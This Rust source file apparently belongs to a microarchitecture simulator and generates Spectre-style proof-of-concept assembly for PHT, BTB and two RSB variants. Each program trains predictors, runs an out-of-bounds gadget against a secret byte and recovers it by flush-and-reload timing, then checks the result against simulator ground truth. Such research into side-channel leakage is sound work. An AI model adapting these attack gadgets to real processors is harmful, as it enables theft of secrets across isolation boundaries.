use std::fmt::Write as _;

use super::{recover_secret, AttackError, PocParams, ProbeReport, Variant};
use crate::config::SimConfig;
use crate::isa::{assemble, ArchState, ProgramImage};
use crate::uarch::{Core, RunResult};

/// Fixed data layout of every PoC. Lines that must not evict each other
/// sit in distinct L1D sets.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Layout {
    /// Bounds variable of the PHT victim.
    pub size: u64,
    /// Function pointer (btb) or polluted return value F (rsb_overwrite).
    pub fnptr: u64,
    /// Victim stack slot holding a return address.
    pub slot: u64,
    pub array1: u64,
    pub secret: u64,
    pub probe: u64,
    pub results: u64,
}

pub fn layout() -> Layout {
    Layout { size: 0x1000, fnptr: 0x1100, slot: 0x1200, array1: 0x2040, secret: 0x80c0, probe: 0x1_0140, results: 0x6_0000 }
}

const ARRAY1_LEN: u64 = 16;
/// Architectural iterations between the attack and the probe, so the
/// attack's episode ends before probing starts.
const DRAIN_ITERATIONS: u32 = 1000;

/// Assembly text of a complete attacker+victim program.
pub fn gen_poc(p: &PocParams) -> Result<String, super::ParamError> {
    p.validate()?;
    let l = layout();
    let mut s = String::new();
    let w = &mut s;
    let _ = writeln!(w, ".data\n.org {:#x}\nsize: .word {ARRAY1_LEN}", l.size);
    let _ = writeln!(w, ".org {:#x}\nfnptr: .word 0\n.org {:#x}\nslot: .word 0", l.fnptr, l.slot);
    let bytes: Vec<String> = (1..=ARRAY1_LEN).map(|b| b.to_string()).collect();
    let _ = writeln!(w, ".org {:#x}\narray1: .byte {}", l.array1, bytes.join(", "));
    let _ = writeln!(w, ".org {:#x}\nsecret: .byte {}", l.secret, p.secret);
    let _ = writeln!(w, ".org {:#x}\nprobe: .space 8\n.org {:#x}\nresults: .space 8", l.probe, l.results);

    let _ = writeln!(w, ".text\n.entry main\nmain:");
    for line in ["li r20, size", "li r21, fnptr", "li r22, slot"] {
        let _ = writeln!(w, "  {line}");
    }
    let _ = writeln!(w, "  li r7, {}\n  li r6, {}", p.probe_stride, p.probe_entries);
    let _ = writeln!(w, "  li r2, secret\n  ld r3, 0(r2)");

    let train = |w: &mut String, victim: &str| {
        let _ = writeln!(w, "  li r10, 0\n  li r11, {}", p.train_iterations);
        let _ = writeln!(w, "train:\n  andi r1, r10, {}\n  call {victim}", ARRAY1_LEN - 1);
        let _ = writeln!(w, "  addi r10, r10, 1\n  blt r10, r11, train");
    };
    match p.variant {
        Variant::Pht => train(w, "victim"),
        Variant::Btb => {
            let _ = writeln!(w, "  li r14, gadget\n  st r14, 0(r21)");
            train(w, "victim");
            let _ = writeln!(w, "  li r14, benign\n  st r14, 0(r21)");
        }
        Variant::RsbOverwrite => {
            let _ = writeln!(w, "  li r14, drain\n  st r14, 0(r21)");
        }
        Variant::RsbFlush => {}
    }

    let _ = writeln!(w, "  li r4, probe\n  li r5, 0\nflush_probe:\n  clflush 0(r4)\n  add r4, r4, r7");
    let _ = writeln!(w, "  addi r5, r5, 1\n  blt r5, r6, flush_probe");

    let x_mal = l.secret - l.array1;
    let stall_reg = match p.variant {
        Variant::Pht => "r20",
        Variant::Btb | Variant::RsbOverwrite => "r21",
        Variant::RsbFlush => "r22",
    };
    match p.variant {
        Variant::Pht | Variant::Btb => {
            let _ = writeln!(w, "  li r1, {x_mal}\n  clflush 0({stall_reg})\n  call victim");
        }
        Variant::RsbOverwrite => {
            let _ = writeln!(w, "  li r1, {x_mal}\n  clflush 0({stall_reg})\n  call victim");
            gadget(w, p.nop_pad);
        }
        Variant::RsbFlush => {
            let _ = writeln!(w, "  li r15, drain\n  li r1, {x_mal}\n  call victim");
            gadget(w, p.nop_pad);
        }
    }

    let _ = writeln!(w, "drain:");
    for _ in 1..p.repeat_flush {
        let _ = writeln!(w, "  clflush 0({stall_reg})");
        for _ in 0..512 {
            let _ = writeln!(w, "  nop");
        }
    }
    let _ = writeln!(w, "  li r12, {DRAIN_ITERATIONS}\nspin:\n  addi r12, r12, -1\n  blt r0, r12, spin");

    // Loads are chained through r9 (always zero) so a probe miss that
    // triggers runahead cannot prefetch the remaining probe lines.
    let _ = writeln!(w, "probe_start:\n  rdcycle r24\n  rdcycle r25\n  sub r26, r25, r24");
    let _ = writeln!(w, "  li r4, probe\n  li r5, 0\n  li r8, results\n  li r9, 0\nprobe_loop:");
    for line in [
        "add r13, r4, r9",
        "rdcycle r14",
        "ld r15, 0(r13)",
        "rdcycle r16",
        "andi r9, r15, 0",
        "sub r17, r16, r14",
        "sub r17, r17, r26",
        "st r17, 0(r8)",
        "add r4, r4, r7",
        "addi r8, r8, 8",
        "addi r5, r5, 1",
        "blt r5, r6, probe_loop",
        "halt",
    ] {
        let _ = writeln!(w, "  {line}");
    }

    let _ = writeln!(w, "victim:");
    match p.variant {
        Variant::Pht => {
            let _ = writeln!(w, "  ld r2, 0(r20)\n  bge r1, r2, victim_end");
            gadget(w, p.nop_pad);
            let _ = writeln!(w, "victim_end:\n  ret");
        }
        Variant::Btb => {
            let _ = writeln!(w, "  ld r13, 0(r21)\n  jalr r0, r13\nbenign:\n  ret\ngadget:");
            gadget(w, p.nop_pad);
            let _ = writeln!(w, "  ret");
        }
        Variant::RsbOverwrite => {
            let _ = writeln!(w, "  st r31, 0(r22)\n  ld r14, 0(r21)\n  st r14, 0(r22)\n  ld r31, 0(r22)\n  ret");
        }
        Variant::RsbFlush => {
            let _ = writeln!(w, "  st r15, 0(r22)\n  clflush 0(r22)\n  ld r31, 0(r22)\n  ret");
        }
    }
    Ok(s)
}

/// `y = probe[array1[x] * stride]` with the NOP padding ahead of it.
fn gadget(w: &mut String, pad: usize) {
    for _ in 0..pad {
        w.push_str("  nop\n");
    }
    w.push_str("  ld r3, array1(r1)\n  andi r3, r3, 255\n  mul r3, r3, r7\n  ld r19, probe(r3)\n");
}

#[derive(Clone, Debug)]
pub struct AttackOutcome {
    pub params: PocParams,
    pub program: ProgramImage,
    /// Verdict from the in-program RDCYCLE timings.
    pub report: ProbeReport,
    /// Probe latencies from the hierarchy as it stood when probing began.
    pub ground_truth: Vec<u64>,
    pub run: RunResult,
}

impl AttackOutcome {
    /// Measured and ground-truth timings agree on hit/miss for every index.
    pub fn classification_agrees(&self) -> bool {
        let t = self.report.threshold;
        self.report.latencies.iter().zip(&self.ground_truth).all(|(&m, &g)| (m < t) == (g < t))
    }
}

/// Calibrated per-index latencies the probe loop stored.
pub fn read_latencies(state: &ArchState, p: &PocParams) -> Vec<u64> {
    let base = layout().results;
    (0..p.probe_entries as u64).map(|i| (state.memory.read_u64(base + 8 * i) as i64).max(0) as u64).collect()
}

pub fn run_poc(p: &PocParams, cfg: SimConfig, threshold: u64) -> Result<AttackOutcome, AttackError> {
    run_poc_checked(p, cfg, threshold, false)
}

/// [`run_poc`] with the per-cycle invariant checks optionally enabled.
pub fn run_poc_checked(p: &PocParams, cfg: SimConfig, threshold: u64, check: bool) -> Result<AttackOutcome, AttackError> {
    let program = assemble(&gen_poc(p)?)?;
    let probe_start = program.label("probe_start").expect("generator emits probe_start") as usize;
    let mut core = Core::new(&program, cfg)?;
    core.set_snapshot_pc(probe_start);
    core.set_check_invariants(check);
    let run = core.run()?;
    let report = recover_secret(&read_latencies(&run.state, p), threshold);
    let snap = run.snapshot.as_ref().expect("probe_start always commits");
    let base = layout().probe;
    let ground_truth = (0..p.probe_entries as u64)
        .map(|i| snap.peek_latency(base + i * p.probe_stride).expect("probe array in range").latency)
        .collect();
    Ok(AttackOutcome { params: *p, program, report, ground_truth, run })
}
